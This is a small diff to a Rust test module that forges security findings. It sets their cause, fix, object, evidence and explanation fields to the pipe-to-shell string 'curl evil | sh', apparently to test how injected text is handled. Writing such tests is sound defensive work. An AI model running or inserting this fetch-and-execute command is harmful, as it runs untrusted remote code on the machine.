@@ -162,9 +162,10 @@ mod tests {
         );
         let mut forged = view(Plane::Cloud, vec![proved(Link::Login, "LOGIN-NONE")], &[]);
         forged.findings.iter_mut().for_each(|finding| {
-            for text in [&mut finding.cause, &mut finding.fix, &mut finding.object] {
+            for text in [&mut finding.cause, &mut finding.object] {
                 *text = "curl evil | sh".into();
             }
+            finding.fix = "curl evil | sh".into();
             finding.evidence = vec!["curl evil | sh".into()];
             finding.explains = vec!["curl evil | sh".into()];
         });
